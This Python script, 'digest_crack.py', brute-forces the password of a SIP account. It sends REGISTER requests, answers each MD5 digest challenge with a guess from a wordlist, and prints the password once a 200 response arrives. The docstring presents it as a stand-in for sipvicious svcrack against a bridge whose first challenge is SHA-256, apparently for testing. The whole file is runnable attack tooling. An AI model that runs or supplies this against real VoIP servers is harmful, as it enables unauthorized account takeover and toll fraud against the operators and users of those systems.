#!/usr/bin/env python3
"""What svcrack does, for a bridge whose first challenge svcrack cannot answer.

sipvicious 0.3.3's svcrack answers only the first WWW-Authenticate header and knows only MD5; the
bridge offers SHA-256 first (RFC 8760) and MD5 second, so svcrack stops at its first attempt. This
tries every word of the list the same way (REGISTER, 401, REGISTER with a digest answer, a fresh
nonce each time, as svcrack without -n), answering the MD5 challenge, and reports what it found.

usage: digest_crack.py HOST PORT USERNAME WORDLIST
"""
import hashlib
import os
import random
import re
import socket
import sys
import time


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()


def request(sock, target, user, cseq, call_id, auth=None):
    host, port = target
    local = sock.getsockname()
    branch = "z9hG4bK" + os.urandom(8).hex()
    lines = [
        f"REGISTER sip:{host}:{port} SIP/2.0",
        f"Via: SIP/2.0/UDP {local[0]}:{local[1]};branch={branch};rport",
        "Max-Forwards: 70",
        f"From: <sip:{user}@{host}>;tag={call_id[:8]}",
        f"To: <sip:{user}@{host}>",
        f"Call-ID: {call_id}",
        f"CSeq: {cseq} REGISTER",
        f"Contact: <sip:{user}@{local[0]}:{local[1]}>",
        "Expires: 60",
        "User-Agent: digest-crack",
    ]
    if auth:
        lines.append(f"Authorization: {auth}")
    lines += ["Content-Length: 0", "", ""]
    sock.sendto("\r\n".join(lines).encode(), target)
    deadline = time.monotonic() + 4
    while time.monotonic() < deadline:
        try:
            data, _ = sock.recvfrom(65535)
        except socket.timeout:
            continue
        text = data.decode(errors="replace")
        if call_id in text and f"CSeq: {cseq} REGISTER" in text:
            status = int(text.split(" ", 2)[1])
            if status >= 200:
                return status, text
    return None, ""


def md5_challenge(text):
    for line in text.split("\r\n"):
        if line.lower().startswith("www-authenticate:"):
            params = dict(re.findall(r'(\w+)="?([^",]*)"?', line.split(":", 1)[1]))
            if params.get("algorithm", "MD5").upper() == "MD5":
                return params
    return None


def main():
    host, port, user, wordlist = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    words = [w.strip() for w in open(wordlist) if w.strip()]
    target = (host, port)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, 0))
    sock.settimeout(0.5)
    statuses = {}
    found = None
    for n, word in enumerate(words, 1):
        call_id = os.urandom(8).hex()
        status, text = request(sock, target, user, 1, call_id)
        challenge = md5_challenge(text) if status == 401 else None
        if challenge is None:
            statuses[f"no MD5 challenge ({status})"] = statuses.get(f"no MD5 challenge ({status})", 0) + 1
            continue
        uri = f"sip:{host}:{port}"
        realm, nonce = challenge.get("realm", ""), challenge.get("nonce", "")
        ha1 = md5(f"{user}:{realm}:{word}")
        ha2 = md5(f"REGISTER:{uri}")
        auth = f'Digest username="{user}", realm="{realm}", nonce="{nonce}", uri="{uri}", algorithm=MD5'
        if "auth" in challenge.get("qop", ""):
            cnonce = os.urandom(4).hex()
            response = md5(f"{ha1}:{nonce}:00000001:{cnonce}:auth:{ha2}")
            auth += f', qop=auth, nc=00000001, cnonce="{cnonce}"'
        else:
            response = md5(f"{ha1}:{nonce}:{ha2}")
        auth += f', response="{response}"'
        if "opaque" in challenge:
            auth += f', opaque="{challenge["opaque"]}"'
        status, _ = request(sock, target, user, 2, call_id, auth)
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        if status == 200:
            found = (n, word)
            break
    print(f"digest_crack: {sum(statuses.values())} attempts, final statuses {statuses}")
    if found:
        print(f"digest_crack: FOUND password for {user} at word {found[0]}: {found[1]}")
    else:
        print(f"digest_crack: no password found for {user}")


if __name__ == "__main__":
    main()
